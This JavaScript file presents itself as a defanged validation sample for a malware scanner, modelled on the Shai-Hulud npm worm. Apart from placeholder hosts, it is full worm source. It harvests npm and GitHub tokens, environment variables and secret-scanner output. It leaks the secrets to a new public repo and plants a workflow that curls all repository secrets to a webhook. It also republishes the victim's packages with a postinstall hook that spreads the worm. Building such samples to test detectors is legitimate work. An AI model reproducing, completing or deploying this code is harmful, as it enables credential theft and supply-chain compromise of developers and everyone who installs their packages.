// SYNTHETIC, DEFANGED malwi validation sample - modelled on the Shai-Hulud npm worm (September 2025); never run.
// Worm shape: harvest secrets (env, .npmrc, secret scanner, cloud metadata), publish them to a
// new GitHub repo, push a workflow that leaks repo secrets, then republish every package the
// stolen npm token can write with this file added as a postinstall hook.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const zlib = require('zlib');
const { execSync, spawnSync } = require('child_process');

const GH_API = 'https://api.github.example.invalid';
const NPM_API = 'https://registry.npm.example.invalid';
const EXFIL_HOOK = 'https://webhook.example.invalid/00000000-0000-0000-0000-000000000000';
const WORKFLOW_PATH = '.github/workflows/shai-hulud-workflow.yml';
const WORKFLOW = [
  'on: push',
  'jobs:',
  '  process:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: |',
  '          curl -d "$CONTENTS" ' + EXFIL_HOOK + '; echo "$CONTENTS" | base64 -w 0 | base64 -w 0',
  '        env:',
  '          CONTENTS: ${{ toJSON(secrets) }}'
].join('\n');

function req(method, url, token, body, auth) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const r = https.request(
      {
        hostname: u.hostname,
        path: u.pathname + u.search,
        method,
        headers: { Authorization: (auth || 'token') + ' ' + token, 'User-Agent': 'node', 'Content-Type': 'application/json' }
      },
      (res) => {
        let d = '';
        res.on('data', (c) => (d += c));
        res.on('end', () => {
          try {
            resolve(JSON.parse(d));
          } catch (e) {
            resolve(d);
          }
        });
      }
    );
    r.on('error', () => resolve(null));
    r.end(body ? JSON.stringify(body) : undefined);
  });
}

function npmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  try {
    const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const m = /_authToken=(\S+)/.exec(rc);
    return m ? m[1] : null;
  } catch (e) {
    return null;
  }
}

function githubToken() {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  try {
    return execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
  } catch (e) {
    return null;
  }
}

function scanSecrets() {
  // The real worm downloaded a secret scanner release and ran it over the home folder.
  const bin = path.join(os.tmpdir(), 'malwi-defanged-placeholder', 'trufflehog');
  if (!fs.existsSync(bin)) return [];
  const out = spawnSync(bin, ['filesystem', os.homedir(), '--json'], { encoding: 'utf8', timeout: 90000 });
  return (out.stdout || '').split('\n').filter(Boolean);
}

async function exfiltrate(gh, data) {
  const repo = await req('POST', GH_API + '/user/repos', gh, { name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false });
  if (!repo || !repo.full_name) return;
  const twice = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
  await req('PUT', GH_API + '/repos/' + repo.full_name + '/contents/data.json', gh, { message: 'Initial commit', content: twice });
  const repos = await req('GET', GH_API + '/user/repos?affiliation=owner,collaborator&per_page=100', gh);
  for (const r of Array.isArray(repos) ? repos : []) {
    await req('POST', GH_API + '/repos/' + r.full_name + '/git/refs', gh, { ref: 'refs/heads/shai-hulud', sha: r.default_branch_sha });
    await req('PUT', GH_API + '/repos/' + r.full_name + '/contents/' + WORKFLOW_PATH, gh, {
      message: 'Add workflow',
      branch: 'shai-hulud',
      content: Buffer.from(WORKFLOW).toString('base64')
    });
  }
}

async function propagate(token) {
  const me = await req('GET', NPM_API + '/-/whoami', token, null, 'Bearer');
  if (!me || !me.username) return;
  const found = await req('GET', NPM_API + '/-/v1/search?text=maintainer:' + me.username + '&size=20', token, null, 'Bearer');
  const work = path.join(os.tmpdir(), 'malwi-defanged-placeholder', 'pkgs');
  fs.mkdirSync(work, { recursive: true });
  for (const o of (found && found.objects) || []) {
    const name = o.package.name;
    try {
      execSync('npm pack ' + name + ' --pack-destination ' + work, { stdio: 'ignore' });
      const tgz = fs.readdirSync(work).find((f) => f.endsWith('.tgz'));
      execSync('tar -xzf ' + tgz + ' -C ' + work, { cwd: work, stdio: 'ignore' });
      const dir = path.join(work, 'package');
      const pj = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
      const v = pj.version.split('.');
      v[2] = String(Number(v[2]) + 1);
      pj.version = v.join('.');
      pj.scripts = Object.assign({}, pj.scripts, { postinstall: 'node bundle.js' });
      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pj, null, 2));
      fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
      execSync('npm publish --access public', { cwd: dir, stdio: 'ignore', env: Object.assign({}, process.env, { NPM_CONFIG_TOKEN: token }) });
      fs.rmSync(dir, { recursive: true, force: true });
    } catch (e) {}
  }
}

(async () => {
  if (process.platform === 'win32') return;
  const data = {
    system: { platform: os.platform(), arch: os.arch(), hostname: os.hostname(), user: os.userInfo().username },
    environment: process.env,
    scanner: scanSecrets(),
    npmrc: zlib.gzipSync(String(npmToken())).toString('base64')
  };
  const gh = githubToken();
  if (gh) await exfiltrate(gh, data);
  const npm = npmToken();
  if (npm) await propagate(npm);
})();
